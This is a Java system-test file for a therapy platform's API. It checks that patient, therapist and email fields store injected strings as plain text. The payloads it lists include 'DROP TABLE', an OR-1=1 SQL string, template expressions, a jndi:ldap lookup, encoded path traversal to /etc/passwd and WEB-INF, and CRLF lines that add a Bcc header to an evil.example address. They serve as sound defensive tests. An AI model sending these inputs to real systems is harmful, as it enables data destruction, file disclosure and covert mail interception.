package org.therapyplatform.systemtests;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.mail.internet.MimeMessage;
import java.io.ByteArrayOutputStream;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.therapyplatform.systemtests.api.Answer;
import org.therapyplatform.systemtests.api.Api;
import org.therapyplatform.systemtests.api.Browser;
import org.therapyplatform.systemtests.api.Given;
import org.therapyplatform.systemtests.api.RawConnection;
import org.therapyplatform.systemtests.api.Region;
import org.therapyplatform.systemtests.stack.Database;
import org.therapyplatform.systemtests.stack.Mailbox;

/** What looks like a program in a text is a text: it comes back as it was sent and nothing happens. */
class InjectionIT {
    /** Short enough for most columns; those that are too narrow must say so. */
    private static final List<String> PROGRAMS = List.of(
            "'; DROP TABLE patienten; --",
            "x' OR '1'='1",
            "${7*7}#{7*7}",
            "<#assign x=7*7>${x}",
            "<script>alert(1)</script>",
            "{{7*7}}",
            "%{(7*7)}",
            "${jndi:ldap://x/y}",
            "../../etc/passwd",
            "=1+1");

    @ParameterizedTest
    @MethodSource("records")
    void aTextComesBackAsItWasSent(String path, int id, Map<String, Object> valid) {
        Answer before = Api.get(path + "/" + id).requireStatus(200);
        List<String> texts = new ArrayList<>();
        before.json().fieldNames().forEachRemaining(texts::add);
        List<String> wrong = new ArrayList<>();
        int kept = 0;
        for (String field : texts) {
            if (Set.of("id", "created_at", "updated_at").contains(field)) {
                continue;
            }
            for (String program : PROGRAMS) {
                Answer changed = Api.put(path + "/" + id, Map.of(field, program));
                if (changed.status() == 400) {
                    // Not a text, or too long for this field: refused as data. An enum's refusal may quote it.
                    continue;
                }
                if (changed.status() != 200) {
                    wrong.add(field + ": " + changed.status());
                    continue;
                }
                String stored = Api.get(path + "/" + id).json().path(field).asText();
                if (stored.equals(program)) {
                    kept++;
                } else if (!stored.equals(before.json().path(field).asText())) {
                    wrong.add(field + " " + program + " became " + stored);
                }
            }
        }
        assertThat(wrong).isEmpty();
        assertThat(kept).as("texts that were stored").isGreaterThanOrEqualTo(PROGRAMS.size());
        assertThat(Database.count("SELECT count(*) FROM patient_service.patienten"))
                .isPositive();
    }

    static List<Object[]> records() {
        Region region = Region.unused();
        Map<String, Object> patient = Given.patient(region);
        Map<String, Object> therapist = Given.therapist(region);
        int patientId = Given.created(patient);
        int email = Api.post("/emails", mail(patientId, Given.email("p"), "n", "b", "t"))
                .requireStatus(201)
                .id();
        int call = Api.post("/phone-calls", Map.of("patient_id", patientId))
                .requireStatus(201)
                .id();
        return List.of(
                new Object[] {"/patients", patientId, patient},
                new Object[] {"/therapists", Given.createdTherapist(therapist), therapist},
                new Object[] {"/emails", email, Map.of()},
                new Object[] {"/phone-calls", call, Map.of()});
    }

    @Test
    void aNewPatientsNameIsStoredAsItWasSent() {
        for (String program : PROGRAMS) {
            int id = Given.created(Given.with(Given.minimalPatient(), "vorname", program, "ort", program));
            assertThat(Api.get("/patients/" + id).json().get("vorname").asText())
                    .isEqualTo(program);
            Api.get("/patients?search=" + Api.encoded(program)).requireStatus(200);
        }
    }

    @Test
    void aPatientsNameIsNoMarkupAndNoTemplateInTheMailToThem() throws Exception {
        Region region = Region.unused();
        String name = Given.unique("N") + "<b>${7*7}</b>[x](http://evil.example)";
        Given.Seeker seeker = Given.seeker(region, "nachname", name);
        Api.put("/patients/" + seeker.patientId(), Map.of("zahlung_eingegangen", true, "zahlungsreferenz", "ABC12345"))
                .requireStatus(200);

        String html = part(Mailbox.awaitMailTo(seeker.email()), "text/html");

        assertThat(html).contains("&lt;b&gt;", "${7*7}").doesNotContain("<b>${", "<b>49", "href=\"http://evil.example");
    }

    @Test
    void aLineBreakInNameOrSubjectMakesNoHeader() throws Exception {
        int patient = Given.created(Given.minimalPatient());
        List<String> queued = new ArrayList<>();
        for (String lineBreak : List.of("\r\n", "\n", "\r", "\u2028")) {
            String address = Given.email("kopfzeile");
            Map<String, Object> mail = new LinkedHashMap<>(mail(
                    patient,
                    address,
                    "Anna" + lineBreak + "Bcc: spy@evil.example",
                    "Hallo" + lineBreak + "Bcc: spy@evil.example" + lineBreak + lineBreak + "body",
                    "Text"));
            mail.put("status", "In_Warteschlange");
            Answer created = Api.post("/emails", mail);
            if (created.status() == 400) {
                continue;
            }
            created.requireStatus(201);
            queued.add(address);
        }
        for (String address : queued) {
            MimeMessage sent = Mailbox.awaitMailTo(address);
            assertThat(sent.getHeader("Bcc")).isNull();
            assertThat(sent.getAllRecipients()).hasSize(1);
        }
    }

    @Test
    void anAddressIsOneAddress() {
        int patient = Given.created(Given.minimalPatient());
        String spy = Given.email("spion");
        for (String separator : List.of("\r\nBcc: ", ", ", ";", " ")) {
            Map<String, Object> mail = mail(patient, Given.email("erste") + separator + spy, "n", "b", "t");
            assertThat(Api.post("/emails", Given.with(mail, "status", "In_Warteschlange"))
                            .status())
                    .isIn(201, 400);
        }
        String later = Given.email("danach");
        Api.post("/emails", Given.with(mail(patient, later, "n", "b", "t"), "status", "In_Warteschlange"))
                .requireStatus(201);

        Mailbox.awaitMailTo(later);

        assertThat(Mailbox.mailsTo(spy)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "..%2f..%2fetc%2fpasswd",
                "..;/..;/WEB-INF/web.xml",
                "%2e%2e%2f%2e%2e%2fWEB-INF%2fweb.xml",
                "..%5c..%5cWEB-INF%5cweb.xml",
                "%c0%ae%c0%ae/WEB-INF/web.xml",
                "1%2f..%2f2",
                "1'%20OR%20'1'='1",
            })
    void aPathLeadsNowhereElse(String segment) {
        for (String list :
                List.of("patients", "therapists", "platzsuchen", "therapeutenanfragen", "emails", "phone-calls")) {
            String answer = raw("/api/" + list + "/" + segment);
            assertThat(answer).as(list).matches("(?s)HTTP/1.1 40[04] .*").doesNotContain("web-app", "root:");
        }
        for (String directory : List.of("/", "/login.css/", "/health/")) {
            String answer = raw(directory + segment);
            assertThat(answer).as(directory).doesNotContain(" 500 ", "<web-app", "root:x");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"/WEB-INF/web.xml", "/web-inf/web.xml", "/META-INF/MANIFEST.MF", "//WEB-INF/web.xml"})
    void theInsidesOfTheApplicationAreNotServed(String path) {
        assertThat(raw(path)).doesNotContain(" 200 ", "<web-app", "Manifest-Version");
    }

    @Test
    void anotherHostNameReachesNoAnswer() {
        HttpResponse<String> plain = new Browser().get("/");
        try (RawConnection connection = new RawConnection()) {
            String answer = connection
                    .send("GET / HTTP/1.1\r\nHost: evil.example\r\nX-Forwarded-Host: evil.example\r\n"
                            + "Connection: close\r\n\r\n")
                    .answer();
            // Signing in goes on at the address the browser asked; nothing is made of the proxy's header.
            assertThat(answer.substring(answer.indexOf("\r\n\r\n"))).doesNotContain("evil.example");
        }
        assertThat(plain.body()).doesNotContain("evil.example");
    }

    private static String raw(String path) {
        try (RawConnection connection = new RawConnection()) {
            return connection
                    .send(RawConnection.head("GET", path) + "Connection: close\r\n\r\n")
                    .answer();
        }
    }

    private static Map<String, Object> mail(int patient, String address, String name, String subject, String text) {
        return Map.of(
                "patient_id", patient,
                "empfaenger_email", address,
                "empfaenger_name", name,
                "betreff", subject,
                "inhalt_text", text);
    }

    private static String part(MimeMessage mail, String type) throws Exception {
        ByteArrayOutputStream source = new ByteArrayOutputStream();
        mail.writeTo(source);
        return find(mail, type).orElseThrow(() -> new AssertionError(source.toString(StandardCharsets.UTF_8)));
    }

    private static java.util.Optional<String> find(jakarta.mail.Part part, String type) throws Exception {
        if (part.isMimeType(type)) {
            return java.util.Optional.of((String) part.getContent());
        }
        if (part.getContent() instanceof jakarta.mail.Multipart parts) {
            for (int i = 0; i < parts.getCount(); i++) {
                var found = find(parts.getBodyPart(i), type);
                if (found.isPresent()) {
                    return found;
                }
            }
        }
        return java.util.Optional.empty();
    }
}
